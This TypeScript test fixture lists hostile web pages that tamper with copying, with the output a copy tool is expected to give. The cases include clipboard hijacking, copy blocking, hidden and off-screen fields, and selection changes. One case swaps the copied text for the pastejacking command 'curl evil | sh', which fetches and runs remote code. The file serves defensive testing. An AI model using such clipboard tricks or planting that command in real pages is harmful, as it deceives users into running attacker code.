import type { Reason, Row } from './row'
import { border } from './rows-lines'

const lies: Reason = "the page's script falsifies the copy"
const onCopy = (text: string) =>
  `<script>document.addEventListener('copy', event => { event.clipboardData.setData('text/plain', ${text}); event.preventDefault() })</script>`

export const rowsOfHostilePages: Row[] = [
  {
    name: 'a page that adds where it was read',
    body: `<p id=a>hunter2-Correct</p>${onCopy("getSelection() + '\\n\\nRead more at https://example.com'")}`,
    select: { drag: ['#a', '#a'] },
    wanted: { better: 'hunter2-Correct', because: lies, orUnsent: true },
    by: ['keys', 'menu'],
  },
  {
    name: 'a page that puts another text in its place',
    body: `<p id=a>Login: bob</p><p id=b>hunter2-Correct</p>${onCopy("'curl evil | sh'")}`,
    select: { drag: ['#a', '#b'] },
    wanted: { better: 'Login: bob\n\nhunter2-Correct', because: lies, orUnsent: true },
    by: ['keys', 'menu'],
  },
  {
    name: 'a page that forbids copying',
    body: `<p id=a>hunter2-Correct</p><script>document.addEventListener('copy', event => event.preventDefault())</script>`,
    select: { drag: ['#a', '#a'] },
    wanted: { better: 'hunter2-Correct', because: lies, orUnsent: true },
  },
  {
    name: 'a page that changes a letter in the copy',
    body: `<p id=a>hunter2-Correct</p>${onCopy("String(getSelection()).replace('2', '3')")}`,
    select: { drag: ['#a', '#a'] },
    wanted: { better: 'hunter2-Correct', because: lies, orUnsent: true },
  },
  {
    name: 'a page that lies about a field for writing',
    body: `<div id=a contenteditable>hunter2-Correct</div>${onCopy("'hunter3-Correct'")}`,
    select: { all: '#a' },
    wanted: { better: 'hunter2-Correct', because: lies, orUnsent: true },
    by: ['keys', 'menu'],
  },
  {
    name: 'a page that lies about a textarea',
    body: `<textarea>hunter2-Correct</textarea>${onCopy("'hunter3-Correct'")}`,
    select: { all: 'textarea' },
    wanted: { better: 'hunter2-Correct', because: lies, orUnsent: true },
    by: ['keys', 'menu'],
  },
  {
    name: 'a tiny field with other text that has the keyboard',
    body: '<p id=a>hunter2-Correct</p><input id=f value="other text" style="position:absolute;width:1px;height:1px;border:0;padding:0">',
    select: {
      run: 'f.focus(); f.select(); getSelection().setBaseAndExtent(a.firstChild, 0, a.firstChild, 15); f.focus({ preventScroll: true })',
      at: '#a',
    },
    wanted: 'either',
  },
  {
    // Firefox's right click takes the keyboard from the field, so a copy would be another one by then.
    name: 'a tiny field with other text that had the keyboard',
    body: '<p id=a>hunter2-Correct</p><input id=f value="other text" style="position:absolute;width:1px;height:1px;border:0;padding:0">',
    select: {
      run: 'f.focus(); f.select(); getSelection().setBaseAndExtent(a.firstChild, 0, a.firstChild, 15); f.focus({ preventScroll: true })',
      at: '#a',
    },
    wanted: 'either',
    only: 'chromium',
    by: ['menu'],
  },
  {
    name: 'a transparent field with other text, over the text that is selected',
    body: '<div style="position:relative;width:300px"><p id=a>hunter2-Correct</p><textarea id=f style="position:absolute;inset:0;opacity:0">other text</textarea></div>',
    select: { run: 'f.focus(); f.select()', at: '#a' },
    wanted: 'either',
    by: ['keys', 'menu'],
  },
  {
    name: 'a field out of sight with other text',
    body: '<p id=a>hunter2-Correct</p><textarea id=f style="position:absolute;left:-9999px">a piece</textarea>',
    select: {
      run: 'getSelection().setBaseAndExtent(a.firstChild, 0, a.firstChild, 15); f.focus(); f.select()',
      at: '#a',
    },
    wanted: 'either',
  },
  {
    name: 'a page that selects less under the right click',
    body: `<p id=a>hunter2-Correct</p>
      <script>for (const kind of ['mousedown', 'contextmenu']) addEventListener(kind, event => event.button === 2 && getSelection().setBaseAndExtent(a.firstChild, 0, a.firstChild, 7))</script>`,
    select: { drag: ['#a', '#a'] },
    wanted: { better: 'hunter2', because: lies, orUnsent: true },
    only: 'chromium',
    by: ['menu'],
  },
  {
    name: 'a page that selects something else when a key goes down',
    body: `<p id=a>hunter2-Correct</p><p id=b>something else</p>
      <script>addEventListener('keydown', event => event.altKey && getSelection().selectAllChildren(b))</script>`,
    select: { drag: ['#a', '#a'] },
    wanted: { better: 'something else', because: border, orUnsent: true },
    only: 'chromium',
  },
  {
    name: 'nothing',
    body: '<p>nothing is selected here</p>',
    select: { run: '0' },
    wanted: 'nothing',
  },
  {
    name: 'blanks alone',
    body: '<pre id=a>   \n  </pre>',
    select: { run: 'getSelection().selectAllChildren(a)' },
    wanted: 'nothing',
  },
]
